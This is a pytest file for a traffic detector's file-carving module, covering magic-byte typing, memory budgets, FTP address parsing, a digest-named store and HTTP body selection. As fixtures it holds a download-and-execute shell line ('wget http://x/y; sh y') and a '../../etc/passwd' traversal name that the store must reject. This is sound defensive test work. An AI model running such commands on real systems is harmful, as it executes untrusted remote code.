"""Pieces of the carving detector: file typing, memory budgets, incremental carving, FTP address replies,
the sha256-named store, which HTTP bodies are worth reading."""

from __future__ import annotations

import gzip
import hashlib
import io
import struct
import tarfile
import zipfile
from pathlib import Path

import pytest

from minerwatch.detectors.files.carve import Budget, Carve, FileLimits
from minerwatch.detectors.files.ftp import parse_eprt, parse_epsv, parse_host_port
from minerwatch.detectors.files.http import HttpFileConsumer, url_filename
from minerwatch.detectors.files.magic import identify
from minerwatch.detectors.files.store import FileStore
from minerwatch.flows.http import HttpMessage
from minerwatch.protocols.http import Headers, Request, Response


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo("x")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("config.json", "{}")
    return out.getvalue()


def _pe(dll: bool) -> bytes:
    head = bytearray(0x80)
    head[:2] = b"MZ"
    struct.pack_into("<I", head, 0x3C, 0x40)
    head[0x40:0x44] = b"PE\x00\x00"
    struct.pack_into("<H", head, 0x40 + 22, 0x2102 if dll else 0x0102)
    return bytes(head)


ELF_ARM = b"\x7fELF\x01\x01\x01" + bytes(9) + struct.pack("<HH", 2, 40) + bytes(32)


@pytest.mark.parametrize(
    ("data", "name", "category", "description"),
    [
        (ELF_ARM, "elf", "executable", "ELF 32-bit LSB executable, ARM"),
        (
            b"\x7fELF\x02\x02\x01" + bytes(9) + struct.pack(">HH", 3, 8),
            "elf",
            "executable",
            "ELF 64-bit MSB shared object, MIPS",
        ),
        (_pe(dll=False), "pe", "executable", "PE executable"),
        (_pe(dll=True), "pe", "executable", "PE DLL"),
        (b"MZ\x90\x00", "mz", "executable", "MS-DOS executable"),
        (b"\xcf\xfa\xed\xfe" + bytes(12), "macho", "executable", "Mach-O 64-bit LSB"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "macho", "executable", "Mach-O universal binary"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "java-class", "executable", "Java class"),
        (b"#!/bin/bash\necho", "shell", "script", "bash script"),
        (b"#!/usr/bin/env python3\nimport os", "python", "script", "python script"),
        (b"#! /usr/bin/perl -w\n", "perl", "script", "perl script"),
        (_zip(), "zip", "archive", "Zip archive"),
        (gzip.compress(b"x"), "gzip", "archive", "gzip compressed data"),
        (_tar(), "tar", "archive", "POSIX tar archive"),
        (b"\xfd7zXZ\x00\x00", "xz", "archive", "XZ compressed data"),
        (b"7z\xbc\xaf\x27\x1c\x00\x04", "7z", "archive", "7-zip archive"),
        (b"BZh91AY&SY", "bzip2", "archive", "bzip2 compressed data"),
        (b'  {"pools": []}', "json", "config", "JSON data"),
        (b"{not json", "text", "text", "text"),
        (b"hello \xc3", "text", "text", "text"),  # a UTF-8 character cut at the end
        (b"\x00\x01binary", "data", "data", "data"),
        (b"", "data", "data", "empty"),
    ],
)
def test_identify(data: bytes, name: str, category: str, description: str) -> None:
    kind = identify(data)
    assert (kind.name, kind.category, kind.description) == (name, category, description)


def test_budget_children_share_their_parent() -> None:
    total = Budget(100)
    a, b = Budget(80, total), Budget(80, total)
    assert a.take(70) == 70
    assert b.take(70) == 30  # the parent has 30 left
    assert a.take(20) == 0  # the parent is full
    a.give_back(70)
    assert (total.used, b.take(60)) == (30, 50)  # b's own limit
    assert Budget(10, Budget(100)).take(20) == 10


def test_carve_hashes_incrementally_and_stops_at_its_cap() -> None:
    budget = Budget(1000)
    carve = Carve(budget, max_file=10)
    for piece in (b"abcd", b"efgh", b"ijkl"):
        carve.write(piece)
    carved = carve.close()
    assert (carved.data, carved.partial_reason) == (b"abcdefghij", "file-cap")
    assert carved.sha256 == hashlib.sha256(b"abcdefghij").hexdigest()
    assert carved.md5 == hashlib.md5(b"abcdefghij").hexdigest()
    assert budget.used == 10
    carve.release()
    assert budget.used == 0


def test_carve_out_of_memory_budget_is_partial_and_the_first_reason_stays() -> None:
    carve = Carve(Budget(3), max_file=100)
    carve.write(b"abcdef")
    carve.mark_partial("gap")
    carved = carve.close()
    assert (carved.data, carved.partial_reason, carved.partial) == (b"abc", "memory-cap", True)


def test_carve_after_a_gap_keeps_only_what_came_before() -> None:
    carve = Carve(Budget(100), max_file=100)
    carve.write(b"abc")
    carve.mark_partial("gap")
    carve.write(b"def")
    assert carve.close().data == b"abc"


def test_ftp_address_replies() -> None:
    assert parse_host_port("Entering Passive Mode (192,168,1,2,195,80).") == ("192.168.1.2", 50000)
    assert parse_host_port("10,0,0,5,200,10") == ("10.0.0.5", 51210)
    assert parse_host_port("(300,1,1,1,1,1)") is None
    assert parse_epsv("Entering Extended Passive Mode (|||6446|)") == 6446
    assert parse_epsv("Entering Extended Passive Mode (!!!70000!)") is None
    assert parse_eprt("|1|132.235.1.2|6275|") == ("132.235.1.2", 6275)
    assert parse_eprt("|2|1080::8:800:200C:417A|5282|") == ("1080::8:800:200c:417a", 5282)
    assert parse_eprt("|1|not-an-ip|1|") is None and parse_eprt("") is None


def test_url_filenames() -> None:
    assert url_filename("/dl/config.json?x=1") == ("config.json", True)
    assert url_filename("/a%20b.sh") == ("a b.sh", True)
    assert url_filename("/index.php") == ("index.php", False)
    assert url_filename("/") == (None, False)


def test_store_names_files_by_digest_and_once(tmp_path: Path) -> None:
    store = FileStore(tmp_path)
    digest = hashlib.sha256(b"x").hexdigest()
    path = store.store(digest, b"x")
    assert path == str(tmp_path / digest[:2] / digest) and Path(path).read_bytes() == b"x"
    assert store.store(digest, b"x") == path and (store.stored, store.duplicates) == (1, 1)
    assert not list(tmp_path.rglob(".partial-*"))
    with pytest.raises(ValueError):
        store.store("../../etc/passwd", b"x")


def _message(
    body: bytes, target: bytes = b"/", headers: list[tuple[bytes, bytes]] | None = None
) -> HttpMessage:
    request = HttpMessage(Request(b"GET", target, b"1.1", Headers([])), 0.0, True)
    response = Response(200, b"OK", b"1.1", Headers(headers or []))
    return HttpMessage(response, 0.0, False, bytearray(body), request=request)


@pytest.mark.parametrize(
    ("message", "wanted"),
    [
        (_message(b"<!DOCTYPE html><html>"), False),
        (_message(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), False),
        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), False),  # named, but no implant: --carve-all
        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), False),
        (_message(ELF_ARM), True),
        (_message(b"cd /tmp; wget http://x/y; sh y"), True),  # a script without a shebang is text
        (_message(b'{"result": 1}'), True),
    ],
)
def test_http_bodies_wanted_at_their_first_bytes(message: HttpMessage, wanted: bool) -> None:
    consumer = HttpFileConsumer(None, FileLimits(), Budget(1))  # type: ignore[arg-type]
    assert consumer.interest.bodies(None, message) is wanted  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("message", "wanted"),
    [
        (_message(b"\x89PNG\r\n\x1a\n", target=b"/logo.png"), True),  # named: a file whatever it is
        (_message(b"\x89PNG", headers=[(b"Content-Disposition", b'attachment; filename="a.png"')]), True),
        (_message(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), False),  # unnamed media: still not
        (_message(b"<!DOCTYPE html><html>"), False),
    ],
)
def test_carve_all_reads_every_named_transfer(message: HttpMessage, wanted: bool) -> None:
    consumer = HttpFileConsumer(None, FileLimits(), Budget(1), carve_all=True)  # type: ignore[arg-type]
    assert consumer.interest.bodies(None, message) is wanted  # type: ignore[arg-type]
